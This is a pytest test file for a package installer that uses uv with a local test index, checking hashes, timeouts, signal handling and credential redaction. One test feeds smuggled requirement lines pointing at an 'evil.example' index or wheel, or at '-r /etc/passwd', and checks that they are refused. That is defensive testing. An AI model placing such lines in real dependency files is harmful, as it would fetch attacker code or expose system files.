"""What the installer installs, freezes and says, with the real uv and the test's own index."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import signal
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from agentjobs.core.runner.installer import Installation, read_installation, read_resolution
from tests.runner.container import Host, interpreter, wait_until
from tests.support.root import ROOT
from tests.support.servers.wheels import site, source, wheel
from tests.support.slow import slow_but

ENTRY = ROOT / "runner-image/src/agentjobs_runner/__main__.py"
LOGIN = "robot", "pa/ss w:ord"
PACKAGES = (
    wheel("alpha", "1.0", "beta>=1", body="import beta\n"),
    wheel("beta", "1.0"),
    wheel("beta", "2.0"),
    source("onlysource", "1.0"),
    wheel("gamma", "1.0", "absent==3"),
)


@dataclass
class Index:
    """A package index.

    `asked`: the paths of all requests. With `silent` it accepts connections and never answers.
    """

    files: dict[str, bytes]
    url: str = ""
    login: tuple[str, str] | None = None
    silent: threading.Event = field(default_factory=threading.Event)
    asked: list[str] = field(default_factory=list)
    over: threading.Event = field(default_factory=threading.Event)

    def offer(self, *files: tuple[str, bytes]) -> None:
        self.files = dict(site(files))

    def answer(self, request: BaseHTTPRequestHandler) -> None:
        self.asked.append(request.path)
        if self.silent.is_set():
            self.over.wait()
        wanted = (
            f"Basic {base64.b64encode(':'.join(self.login).encode()).decode()}"
            if self.login
            else None
        )
        path = request.path.strip("/") + ("/index.html" if request.path.endswith("/") else "")
        code = (
            401
            if request.headers["Authorization"] != wanted
            else 200
            if path in self.files
            else 404
        )
        body = self.files.get(path, b"") if code == 200 else b""
        request.send_response(code)
        request.send_header(
            "Content-Type", "text/html" if path.endswith("html") else "application/octet-stream"
        )
        request.send_header("Content-Length", str(len(body)))
        request.end_headers()
        if request.command == "GET":
            request.wfile.write(body)


@pytest.fixture
def index() -> Iterator[Index]:
    found = Index(dict(site(PACKAGES)))

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.answer(self)

        do_HEAD = do_GET  # noqa: N815 the name that http.server looks for

        def log_message(self, *_: object) -> None:
            """The tests look at `asked`."""

    class Server(ThreadingHTTPServer):
        request_queue_size = 64  # uv asks for many at once

    with Server(("127.0.0.1", 0), Handler) as server:
        found.url = f"http://127.0.0.1:{server.server_address[1]}/simple"
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield found
        found.over.set()
        server.shutdown()
        thread.join()


@dataclass(frozen=True)
class Ended:
    """What an init container leaves behind."""

    code: int
    stdout: bytes
    stderr: str
    told: Installation

    @property
    def resolved(self) -> tuple[str, ...]:
        return read_resolution(self.stdout, self.told.sha256).resolved

    @property
    def requirements(self) -> str:
        return read_resolution(self.stdout, self.told.sha256).requirements


@dataclass(frozen=True)
class Box:
    """The folders of one init container."""

    root: Path
    environment: Mapping[str, str]

    @property
    def target(self) -> Path:
        return self.root / "opt/agentjobs/packages"

    @contextmanager
    def started(self, **more: str) -> Iterator[subprocess.Popen[bytes]]:
        """An installer, which does not outlive the block: under load a test may give up on it."""
        shutil.rmtree(self.target, ignore_errors=True)
        self.target.mkdir(parents=True)
        command = [interpreter(), "-I", "-S", str(ENTRY), "install", str(self.root)]
        environment = {**self.environment, **more}
        pipe = subprocess.PIPE
        with subprocess.Popen(
            command, env=environment, stdout=pipe, stderr=pipe, stdin=subprocess.DEVNULL
        ) as process:
            try:
                yield process
            finally:
                process.kill()

    def end(self, process: subprocess.Popen[bytes]) -> Ended:
        stdout, stderr = process.communicate(timeout=60)
        told = read_installation((self.root / "dev/termination-log").read_text())
        assert told is not None, stderr
        return Ended(process.returncode, stdout, stderr.decode(), told)

    def run(self, **more: str) -> Ended:
        with self.started(**more) as process:
            return self.end(process)

    def keep(self, requirements: str) -> None:
        """As the operator does after the first run."""
        folder = self.root / "etc/agentjobs/packages"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "requirements.txt").write_text(requirements)

    def imported(self, code: str) -> str:
        ran = subprocess.run(
            [interpreter(), "-c", code],
            env={"PYTHONPATH": str(self.target)},
            capture_output=True,
            text=True,
            check=True,
        )
        return ran.stdout.strip()


Pack = Callable[..., Box]


@pytest.fixture
def box(tmp_path: Path, index: Index) -> Pack:
    def make(*pins: str, digest: str = "") -> Box:
        content = json.dumps(
            {"name": "report", "recipe": 1, "spec": {"packages": list(pins)}}
        ).encode()
        for name in ("etc/agentjobs/revision", "dev"):
            (tmp_path / name).mkdir(parents=True)
        (tmp_path / "etc/agentjobs/revision/revision.json").write_bytes(content)
        (tmp_path / "dev/termination-log").touch()
        environment = {
            "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin",
            "AGENTJOBS_DIGEST": digest or hashlib.sha256(content).hexdigest(),
            "AGENTJOBS_INDEX_URL": index.url,
            "AGENTJOBS_INSTALL_SECONDS": "50",
        }
        return Box(tmp_path, environment)

    return make


def test_a_package_comes_with_dependencies_and_a_resolution_with_hashes(box: Pack) -> None:
    made = box("Alpha==1.0.0")
    ended = made.run()
    assert ended.code == 0, ended.told.message
    assert (ended.code, ended.told.reason, ended.resolved) == (
        0,
        "PackagesInstalled",
        ("alpha==1.0", "beta==2.0"),
    )
    digests = [
        hashlib.sha256(content).hexdigest()
        for name, content in PACKAGES
        if name.startswith(("alpha-1", "beta-2"))
    ]
    assert all(f"--hash=sha256:{digest}" in ended.requirements for digest in digests)
    assert made.imported("import alpha, beta; print(alpha.version, beta.version)") == "1.0 2.0"
    assert sorted(path.name for path in made.target.iterdir() if path.suffix == ".py") == [
        "alpha.py",
        "beta.py",
    ]
    assert [path for path in made.target.iterdir() if path.name.startswith(".uv-")] == []


@pytest.mark.slow
def test_what_was_kept_is_installed_even_when_the_index_has_newer_versions(
    box: Pack, index: Index
) -> None:
    made = box("alpha==1.0")
    index.offer(*PACKAGES[:2])
    first = made.run()
    made.keep(first.requirements)
    index.offer(*PACKAGES)
    again = made.run()
    assert (again.code, again.resolved, again.requirements) == (0, ("alpha==1.0", "beta==1.0"), "")
    assert made.imported("import beta; print(beta.version)") == "1.0"


@pytest.mark.slow
def test_a_file_that_changed_after_the_first_resolution_is_refused(box: Pack, index: Index) -> None:
    made = box("alpha==1.0")
    made.keep(made.run().requirements)
    index.offer(PACKAGES[0], wheel("beta", "2.0", body="evil = True\n"))
    ended = made.run()
    assert (ended.code, ended.told.reason) == (1, "PackageInstallFailed")
    assert "Hash mismatch for `beta==2.0`" in ended.told.message
    assert "beta.py" not in [path.name for path in made.target.iterdir()]


@pytest.mark.parametrize(
    ("pin", "said"),
    slow_but(
        [("alpha==7", "there is no version of alpha==7")],
        [
            ("missing==1", "missing was not found in the package registry"),
            ("alpha==7", "there is no version of alpha==7"),
            ("onlysource==1.0", "onlysource==1.0 has no usable wheels"),
            ("gamma==1.0", "absent was not found in the package registry"),
        ],
        several=True,
    ),
)
def test_what_cannot_be_installed_is_told_in_the_words_of_uv(
    box: Pack, pin: str, said: str
) -> None:
    ended = box(pin).run()
    assert (ended.code, ended.told.reason) == (1, "PackageInstallFailed")
    assert ended.told.message.startswith("uv could not install the packages: ")
    assert said in ended.told.message
    assert b"@agentjobs" not in ended.stdout


@pytest.mark.slow
def test_an_index_that_never_answers_does_not_hang_the_run(box: Pack, index: Index) -> None:
    index.silent.set()
    ended = box("alpha==1.0").run(AGENTJOBS_INSTALL_SECONDS="1")
    assert (ended.code, ended.told.reason) == (1, "PackageInstallFailed")
    assert ended.told.message.startswith(
        "the installation did not finish within 1 s (the chart's packages.timeoutSeconds)"
    )


def test_sigterm_ends_it_at_once_with_its_word(box: Pack, index: Index) -> None:
    index.silent.set()
    made = box("alpha==1.0")
    with made.started() as process:
        wait_until("uv asks the index", lambda: index.asked)
        process.send_signal(signal.SIGTERM)
        ended = made.end(process)
    assert (ended.code, ended.told.reason) == (143, "Terminated")
    assert not Path(f"/proc/{process.pid}").exists()


@pytest.mark.slow
def test_the_password_of_the_index_is_used_and_never_told(box: Pack, index: Index) -> None:
    index.login = LOGIN
    made = box("alpha==1.0")
    login = {"AGENTJOBS_INDEX_USERNAME": LOGIN[0], "AGENTJOBS_INDEX_PASSWORD": LOGIN[1]}
    ended = made.run(**login)
    assert (ended.code, ended.resolved) == (0, ("alpha==1.0", "beta==2.0"))
    refused = made.run()
    assert "401" in refused.told.message
    # An index that repeats what it was sent, in links that lead nowhere.
    name = "alpha-1.0-py3-none-any.whl"
    index.files["simple/alpha/index.html"] = "".join(
        f'<a href="../../{word}/{name}">{name}</a>' for word in _spellings()
    ).encode()
    repeated = made.run(**login)
    assert repeated.code == 1
    assert "***" in repeated.told.message
    for word in _spellings():
        assert word not in repeated.told.message + repeated.stderr + repeated.stdout.decode()


def _spellings() -> list[str]:
    return [
        "pa%2Fss%20w%3Aord",
        base64.b64encode(":".join(LOGIN).encode()).decode(),
        base64.b64encode(LOGIN[1].encode()).decode(),
    ]


@pytest.mark.slow
def test_with_a_cache_the_files_are_downloaded_once(box: Pack, index: Index) -> None:
    made = box("alpha==1.0")
    (made.root / "var/cache/agentjobs").mkdir(parents=True)
    made.keep(made.run().requirements)
    index.asked.clear()
    assert made.run().code == 0
    assert [path for path in index.asked if path.startswith("/files/")] == []
    assert made.imported("import beta; print(beta.version)") == "2.0"


def test_installed_packages_are_imported_before_those_on_the_jobs_path(host: Host) -> None:
    root = host.folder(USES)
    for folder, version in (("installed", "approved"), ("own", "its own")):
        (root / folder).mkdir()
        (root / folder / "alpha.py").write_text(f"version = {version!r}\n")
    paths = {"AGENTJOBS_PACKAGES": str(root / "installed"), "PYTHONPATH": str(root / "own")}
    ended = host.run(USES, root, **paths)
    assert ended.envelope.stdout == f"approved {root}/installed:{root}/own None\n"
    assert (
        host.run(USES, host.folder(USES), PYTHONPATH=str(root / "own")).envelope.stdout
        == f"its own {root}/own None\n"
    )


USES = (
    "import alpha, os\nprint(alpha.version, os.environ['PYTHONPATH'],"
    " os.environ.get('AGENTJOBS_PACKAGES'))\n"
)


def test_a_revision_that_is_not_the_approved_one_installs_nothing(box: Pack, index: Index) -> None:
    ended = box("alpha==1.0", digest="0" * 64).run()
    assert (ended.code, ended.told.reason, index.asked) == (1, "DigestMismatch", [])


@pytest.mark.parametrize(
    "line",
    slow_but(
        ["alpha>=1"],
        [
            "--index-url http://evil.example/simple",
            "evil @ http://evil.example/e.whl",
            "-r /etc/passwd",
            "alpha>=1",
        ],
    ),
)
def test_a_kept_resolution_with_more_than_packages_and_hashes_is_refused(
    box: Pack, index: Index, line: str
) -> None:
    made = box("alpha==1.0")
    requirements = made.run().requirements
    index.asked.clear()
    made.keep(f"{requirements}{line}\n")
    ended = made.run()
    assert (ended.code, ended.told.reason, index.asked) == (1, "PackageInstallFailed", [])
    assert "neither a package nor a hash" in ended.told.message


def test_a_kept_resolution_that_lacks_a_package_is_refused(box: Pack, index: Index) -> None:
    made = box("alpha==1.0", "gamma==1.0")
    made.keep("alpha==1.0 \\\n    --hash=sha256:" + "0" * 64 + "\n")
    ended = made.run()
    assert (ended.code, index.asked) == (1, [])
    assert "lacks gamma==1.0" in ended.told.message


@pytest.mark.slow
def test_a_long_message_fits_into_the_termination_message(box: Pack) -> None:
    pins = [f"missing-{'p' * 100}-{n}==1" for n in range(50)]
    made = box(*pins)
    ended = made.run()
    assert ended.told.reason == "PackageInstallFailed"
    assert (made.root / "dev/termination-log").stat().st_size <= 4096
